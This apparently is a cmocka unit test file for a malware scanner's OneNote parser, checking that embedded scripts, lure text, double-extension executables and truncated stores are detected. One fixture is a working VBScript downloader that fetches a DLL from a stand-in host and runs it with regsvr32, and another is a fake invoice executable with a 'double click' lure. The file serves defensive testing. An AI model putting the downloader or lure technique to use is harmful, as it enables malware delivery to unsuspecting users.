/* OneNote sections built by our writer (real file header and FileDataStoreObject GUIDs):
 * embedded files become named children, active content and the lure are reported, a damaged
 * store is reported and still analysed as far as it goes. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "payload_fixtures.h"
#include "testutil.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static const eg_object *object_named(const eg_report *r, const char *name)
{
    for (size_t i = 0; i < eg_report_object_count(r); i++) {
        const eg_object *o = eg_report_object(r, i);
        if (o->name && !strcmp(o->name, name))
            return o;
    }
    return NULL;
}

static bool rule_on(const eg_report *r, const char *rule, uint32_t obj)
{
    for (size_t i = 0; i < eg_report_finding_count(r); i++) {
        const eg_finding *f = eg_report_finding(r, i);
        if (f->object == obj && !strcmp(eg_rule_get(f->rule)->id, rule))
            return true;
    }
    return false;
}

static const char click_wsf[] =
    "<job id=\"x\"><script language=\"VBScript\">\r\n"
    "Set h = CreateObject(\"MSXML2.XMLHTTP\"): h.Open \"GET\", \"http://one.example.test/rad.dll\", False: h.Send\r\n"
    "Set s = CreateObject(\"ADODB.Stream\"): s.Open: s.Type = 1: s.Write h.ResponseBody: s.SaveToFile \"rad.tmp.dll\", 2\r\n"
    "CreateObject(\"WScript.Shell\").Run \"regsvr32 rad.tmp.dll\"\r\n"
    "</script></job>\r\n";

static const uint8_t png[] = {0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n', 0, 0, 0, 13, 'I', 'H', 'D', 'R',
                              0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0, 0x1F, 0x15, 0xC4, 0x89, 0, 0, 0,
                              0, 'I', 'E', 'N', 'D', 0xAE, 0x42, 0x60, 0x82};

static void embedded_wsf(void **st)
{
    (void)st;
    /* the image comes first and has no name; the script's name must still go to the script */
    eg_test_one_file files[] = {{NULL, png, sizeof png},
                                {"click.wsf", (const uint8_t *)click_wsf, sizeof click_wsf - 1}};
    size_t n;
    uint8_t *one = eg_test_onenote_build("This document is protected. Double click to view the document.", files, 2, &n);
    assert_non_null(one);
    eg_report *r = eg_test_scan(one, n, NULL);
    assert_int_equal(eg_report_object(r, 0)->type, EG_T_ONENOTE);
    const eg_object *w = object_named(r, "click.wsf");
    assert_non_null(w);
    assert_int_equal(w->size, sizeof click_wsf - 1);
    assert_int_equal(w->type, EG_T_SCRIPT);
    assert_true(rule_on(r, "SCRIPT.DOWNLOAD_EXECUTE", w->id));
    const eg_object *img = object_named(r, "[OneNote embedded file 1]");
    assert_non_null(img);
    assert_int_equal(img->type, EG_T_IMAGE);
    assert_true(rule_on(r, "ONE.EMBEDDED_ACTIVE", 0));
    assert_true(rule_on(r, "ONE.LURE", 0));
    assert_true(rule_on(r, "NAME.EXECUTABLE_EXTENSION", w->id));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
    free(one);
}

static void embedded_exe_japanese_lure(void **st)
{
    (void)st;
    eg_test_pe spec = {.dll = false};
    size_t pn;
    uint8_t *pe = eg_test_pe_build(&spec, &pn);
    eg_test_one_file files[] = {{"請求書.pdf.exe", pe, pn}};
    size_t n;
    uint8_t *one = eg_test_onenote_build("内容を表示するにはダブルクリックしてください", files, 1, &n);
    eg_report *r = eg_test_scan(one, n, NULL);
    const eg_object *e = object_named(r, "請求書.pdf.exe");
    assert_non_null(e);
    assert_int_equal(e->type, EG_T_PE);
    assert_true(rule_on(r, "ONE.EMBEDDED_ACTIVE", 0));
    assert_true(rule_on(r, "ONE.LURE", 0));
    assert_true(rule_on(r, "NAME.DOUBLE_EXTENSION", e->id));
    eg_report_free(r);
    free(one);
    free(pe);
}

static void image_only(void **st)
{
    (void)st;
    eg_test_one_file files[] = {{NULL, png, sizeof png}};
    size_t n;
    uint8_t *one = eg_test_onenote_build("議事録 2023-03-16", files, 1, &n);
    eg_report *r = eg_test_scan(one, n, NULL);
    assert_int_equal(eg_report_object_count(r), 2);
    assert_false(eg_test_has_rule(r, "ONE.EMBEDDED_ACTIVE"));
    assert_false(eg_test_has_rule(r, "ONE.LURE"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_CLEAN);
    eg_report_free(r);
    free(one);
}

/* A store whose length runs past the end: reported, the part present still analysed. */
static void damaged_store(void **st)
{
    (void)st;
    eg_test_one_file files[] = {{"click.wsf", (const uint8_t *)click_wsf, sizeof click_wsf - 1}};
    size_t n;
    uint8_t *one = eg_test_onenote_build(NULL, files, 1, &n);
    /* cut inside the file data: drop the tail, footer and trailing zeros */
    size_t cut = n - 64 - 16 - 40;
    eg_report *r = eg_test_scan(one, cut, NULL);
    assert_true(eg_test_has_rule(r, "ONE.TRUNCATED"));
    const eg_object *w = object_named(r, "click.wsf");
    assert_non_null(w);
    assert_true(w->flags & EG_OBJ_TRUNCATED);
    assert_int_equal(w->size_true, sizeof click_wsf - 1);
    eg_report_free(r);
    /* every shorter prefix is handled */
    for (size_t k = 16; k < n; k += 13) {
        r = eg_test_scan(one, k, NULL);
        assert_non_null(r);
        eg_report_free(r);
    }
    free(one);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(embedded_wsf),
        cmocka_unit_test(embedded_exe_japanese_lure),
        cmocka_unit_test(image_only),
        cmocka_unit_test(damaged_store),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
